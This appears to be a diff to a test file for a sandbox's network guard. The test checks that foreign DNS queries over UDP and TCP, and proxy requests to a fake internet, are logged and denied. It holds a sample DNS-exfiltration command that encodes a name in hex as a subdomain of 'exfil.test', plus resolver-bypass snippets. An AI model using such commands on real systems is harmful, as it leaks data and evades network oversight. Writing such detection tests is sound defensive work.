@@ -106,6 +106,17 @@ FOREIGN_DNS = textwrap.dedent(f"""\
     s.sendto(q, ("{DNS_IP}", 53))
     print("answered", len(s.recv(512)) > 12)
     EOF""")
+# The same over TCP, to another host of the fake internet (redirected the same way).
+FOREIGN_DNS_TCP = textwrap.dedent(f"""\
+    python3 - <<'EOF'
+    import socket, struct
+    q = struct.pack("!HHHHHH", 0x4321, 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(p)]) + p.encode() for p in "good.test".split(".")) + b"\\0"
+    q += struct.pack("!HH", 1, 1)
+    s = socket.create_connection(("{STANDIN_IP}", 53), timeout=3)
+    s.sendall(struct.pack("!H", len(q)) + q)
+    print("answered", len(s.recv(512)) > 14)
+    EOF""")
 ENCODED_NAME = ("python3 -c \"import socket\ntry: socket.getaddrinfo('4a6f686e2e446f65.exfil.test', 80)"
                 "\nexcept OSError as e: print('nx', e)\"")
 PROXY = textwrap.dedent(f"""\
@@ -130,7 +141,14 @@ def test_dns_and_proxy_behaviours_surface_in_a_real_session(
     hits_before = fake_internet.hits.get("standin", 0)
     with Sandbox(profile=str(prof), workdir=make_workspace(test_dir / "w")) as box:
         sid = box.id
+        # Benign first: an ordinary lookup and request raise none of these.
+        ok = box.run("curl -sSk --noproxy '*' --max-time 10 https://good.test/", timeout=30)
+        assert "hello from the fake internet" in ok.output, ok.output
+        assert not [e for e in Store().events(sid, kinds=("guard.verdict",))
+                    if e["rule"].startswith("tunnels.")]
         r = box.run(FOREIGN_DNS, timeout=30)
+        assert "answered True" in r.output, r.output
+        r = box.run(FOREIGN_DNS_TCP, timeout=30)
         assert "answered True" in r.output, r.output
         r = box.run(ENCODED_NAME, timeout=30)
         r = box.run(PROXY, timeout=30)
@@ -143,8 +161,9 @@ def test_dns_and_proxy_behaviours_surface_in_a_real_session(
                 "tunnels.http_proxy_request"}
         assert wait_for(lambda: want <= rules(), 10), rules()
     attempts = [e for e in Store().events(sid, kinds=("net.attempt",))]
-    dns = [e for e in attempts if e["detail"].get("protocol") == "dns"]
-    assert dns and dns[0]["detail"]["dst_ip"] == DNS_IP and dns[0]["detail"]["dst_port"] == 53
+    dns = {(e["detail"]["dst_ip"], e["detail"]["dst_port"], e["detail"]["transport"])
+           for e in attempts if e["detail"].get("protocol") == "dns"}
+    assert dns == {(DNS_IP, 53, "udp"), (STANDIN_IP, 53, "tcp")}, dns
     proxied = [e["detail"] for e in attempts if e["detail"].get("proxy")]
     assert {p["proxy"] for p in proxied} == {"bad.test:80", "bad.test:443"}
     assert all(p["verdict"] == "deny" for p in proxied)  # contained too
